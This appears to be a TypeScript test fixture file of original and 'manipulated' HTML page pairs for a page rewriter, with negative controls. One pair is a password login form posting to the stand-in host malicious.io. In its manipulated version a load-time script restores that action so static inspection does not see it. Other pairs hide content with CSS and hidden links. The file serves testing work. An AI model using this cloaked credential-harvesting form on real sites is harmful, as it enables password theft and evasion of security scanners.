/** Page pairs shaped like the rewriter's output: the manipulated page
 * swaps a live attribute and restores it from a head script at load. */

export const ORIGINAL_FORM = `<!DOCTYPE html>
<html>
<head>
<title>Login</title>
</head>
<body>
  <h2>Enter your password</h2>
  <form id="myform" action="http://malicious.io">
    <input type="password" name="pass">
  </form>
  <button disabled>Continue</button>
</body>
</html>
`;

export const MANIPULATED_FORM = `<!DOCTYPE html>
<html>
<head>
<title>Login</title>
<script type="text/javascript">
window.addEventListener("load", function () {
document.getElementById("myform").setAttribute("action", "http://malicious.io");
document.getElementById("rz-1").setAttribute("disabled", "");
});
</script>
</head>
<body>
  <h2>Enter your password</h2>
  <form id="myform" action="#!">
    <input type="password" name="pass">
  </form>
  <button id="rz-1">Continue</button>
  <a hidden href="/_r/1"></a>
  <a hidden href="/_r/2"></a>
</body>
</html>
`;

/** Negative control: same rewrite with the restoration script dropped. */
export const BROKEN_MANIPULATED_FORM = MANIPULATED_FORM.replace(
  /<script type="text\/javascript">[\s\S]*?<\/script>\n/,
  "",
);

export const ORIGINAL_HIDDEN_DIVS = `<!DOCTYPE html>
<html>
<head><title>Home</title></head>
<body>
  <p>Welcome back.</p>
  <div style="display: none"><p>stash one</p></div>
  <div style="visibility: hidden"><p>stash two</p></div>
</body>
</html>
`;

export const MANIPULATED_HIDDEN_DIVS = `<!DOCTYPE html>
<html>
<head><title>Home</title>
<style>
#rz-1 {visibility: hidden;}
</style>
</head>
<body>
  <p>Welcome back.</p>
  <div hidden><p>stash one</p></div>
  <div id="rz-1"><p>stash two</p></div>
</body>
</html>
`;

export const NOSCRIPT_MANIPULATED = `<!DOCTYPE html>
<html>
<head><title>Home</title></head>
<body>
  <p>Welcome back.</p>
  <noscript><a href="/_r/1">padding</a></noscript>
</body>
</html>
`;

export const NOSCRIPT_ORIGINAL = `<!DOCTYPE html>
<html>
<head><title>Home</title></head>
<body>
  <p>Welcome back.</p>
</body>
</html>
`;
